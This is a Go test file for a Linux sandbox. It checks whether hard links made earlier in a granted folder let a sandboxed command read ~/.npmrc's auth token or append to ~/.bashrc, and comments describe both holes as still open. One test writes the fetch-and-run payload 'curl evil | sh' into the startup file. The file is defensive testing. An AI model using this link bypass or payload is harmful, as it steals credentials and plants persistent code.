//go:build linux

package sandbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A hard link to a credential that was made outside the sandbox, before
// the command runs (a `cp -al` or rsync --link-dest backup of the home
// folder into a granted one), is the credential's file under a granted
// path. The file API refuses it (sdk.Env.Credentials, compared by
// identity); a sandboxed command's cat of it is the same read, and the
// sandbox's rules, all by path, let it through. Open: it fails on main.
// (Landlock and the mount rules cannot name an inode; a fix would find
// such links in the granted folders when the sandbox starts and mask
// them, which misses one made while it runs by a process outside it.)
func TestCredentialHardLinkedBeforeTheCommandRuns(t *testing.T) {
	requireLandlock(t)
	const secret = "PRELINKEDSECRET91f3"
	home := homeWith(t, map[string]string{".npmrc": "//registry/:_authToken=" + secret + "\n", "Documents/notes.md": "mine\n"})
	link := filepath.Join(home, "Documents", "npmrc-backup")
	if err := os.Link(filepath.Join(home, ".npmrc"), link); err != nil {
		t.Skip("hard links unsupported:", err)
	}
	for who, p := range homeGrantedPolicies(t, home) {
		t.Run(who, func(t *testing.T) {
			out, _ := run(t, p, "cat "+link)
			if strings.Contains(out, secret) {
				t.Errorf("a sandboxed %s with the home folder granted read ~/.npmrc through a hard link made before it ran (%s)", who, link)
			}
		})
	}
}

// The same for writing: ~/.bashrc is read-only in every sandbox (the
// person's shell runs it outside any), but a hard link to it made in a
// granted folder before the command runs is the same file under a
// writable path, and appending to it changes ~/.bashrc. Open: it fails
// on main, for the reason above.
func TestStartupFileHardLinkedBeforeTheCommandRuns(t *testing.T) {
	requireLandlock(t)
	home := homeWith(t, map[string]string{".bashrc": "export A=1\n", "Documents/notes.md": "mine\n"})
	link := filepath.Join(home, "Documents", "bashrc-backup")
	if err := os.Link(filepath.Join(home, ".bashrc"), link); err != nil {
		t.Skip("hard links unsupported:", err)
	}
	for who, p := range homeGrantedPolicies(t, home) {
		t.Run(who, func(t *testing.T) {
			// Truncated in place: the link stays the same file.
			if err := os.WriteFile(filepath.Join(home, ".bashrc"), []byte("export A=1\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			run(t, p, "echo 'curl evil | sh' >> "+link)
			b, err := os.ReadFile(filepath.Join(home, ".bashrc"))
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(string(b), "evil") {
				t.Errorf("a sandboxed %s with the home folder granted changed ~/.bashrc through a hard link made before it ran: %q", who, b)
			}
		})
	}
}
